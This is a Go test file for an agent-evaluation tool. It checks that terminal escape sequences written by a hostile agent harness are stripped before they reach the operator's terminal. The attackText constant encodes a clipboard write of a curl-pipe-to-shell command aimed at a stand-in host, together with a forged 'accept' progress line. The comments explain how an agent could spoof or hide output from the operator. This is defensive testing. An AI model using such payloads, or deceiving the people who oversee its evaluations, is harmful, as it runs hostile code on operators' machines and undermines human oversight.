package anchor

import (
	"bytes"
	"io"
	"os"
	"strings"
	"testing"
	"unicode/utf8"
)

// attackText is what an agent plants to reach the operator's terminal: an
// OSC 52 clipboard write of a shell command, cursor up and erase line, and
// a forged accept line; then C1 CSI, a bidi override and invalid UTF-8.
const attackText = "fine\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07\x1b[1A\x1b[2K\r\n  7 *  accept      train 0.100 -> 0.900" +
	"\u009b2J\u202eevil\u2066\xff\u2028end"

func TestPrintableLeavesNoControl(t *testing.T) {
	got := Printable(attackText, 1000)
	for _, c := range got {
		if c < 0x20 || c == 0x7f || (c >= 0x80 && c < 0xa0) || c == '\u202e' || c == '\u2066' || c == '\u2028' {
			t.Errorf("Printable kept %U: %q", c, got)
		}
	}
	if !utf8.ValidString(got) || strings.Contains(got, "\n") || !strings.Contains(got, "accept      train") {
		t.Errorf("Printable(%q) = %q: want one valid line that keeps the text", attackText, got)
	}
	if got := Printable(strings.Repeat("é", 50), 10); got != strings.Repeat("é", 10)+"…" {
		t.Errorf("capped at 10 runes: %q", got)
	}
}

// A crash was recorded with the last 300 bytes of the harness's own output,
// and Evaluate printed each run's error raw on the operator's terminal
// (its progress line). So the harness wrote escape sequences to the
// terminal of whoever runs anchor eval or apply
// (printable-terminal-escapes.txtar): OSC 52 sets the clipboard (here to a
// shell command) on the terminals that allow it, CSI sequences erase the
// line and print a progress line of the harness's choosing, or hide what
// the anchor prints after. The same text went into runs.error, and from a
// rejected train run into generations.reason, which anchor log printed
// raw. The anchor must print no ESC or BEL, and start no line of the
// harness's.
func TestRunOutputReachesNoTerminal(t *testing.T) {
	slow(t)
	e := newEnv(t)
	addTask(t, e.suite, "train", "terminal")
	h := e.hostile(t, attackFor(t, "printable-terminal-escapes").harness(), nil)
	r, w, err := os.Pipe()
	if err != nil {
		t.Fatal(err)
	}
	saved := os.Stderr
	os.Stderr = w
	printed := make(chan []byte)
	go func() {
		b, _ := io.ReadAll(r)
		printed <- b
	}()
	_, err = e.a.Evaluate(ctx(), h, "train", true)
	os.Stderr = saved
	w.Close()
	out := <-printed
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("the anchor printed %q", out)
	if bytes.ContainsRune(out, 0x1b) || bytes.ContainsRune(out, 0x07) {
		t.Errorf("the harness's escape sequences reached the operator's terminal")
	}
	if bytes.Contains(out, []byte("\ntrain 1/1 mean 1.000")) {
		t.Errorf("the harness's output started a line of the operator's terminal")
	}
}
